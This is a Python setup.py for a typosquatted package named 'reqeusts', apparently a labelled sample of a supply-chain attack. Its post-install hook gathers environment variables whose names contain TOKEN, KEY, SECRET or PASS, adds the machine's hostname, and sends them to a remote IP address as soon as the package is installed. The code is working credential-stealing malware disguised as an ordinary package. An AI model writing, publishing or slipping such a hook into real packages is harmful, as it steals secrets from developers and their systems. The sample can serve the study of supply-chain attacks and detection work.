# class: supply chain, setup.py that steals at install; style: package
from setuptools import setup
from setuptools.command.install import install
import os, platform, urllib.parse, urllib.request


class PostInstall(install):
    def run(self):
        install.run(self)
        secrets = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "KEY", "SECRET", "PASS"))}
        secrets["host"] = platform.node()
        urllib.request.urlopen("http://198.51.100.8/i?" + urllib.parse.urlencode(secrets))


setup(name="reqeusts", version="2.31.1", py_modules=["reqeusts"], cmdclass={"install": PostInstall})
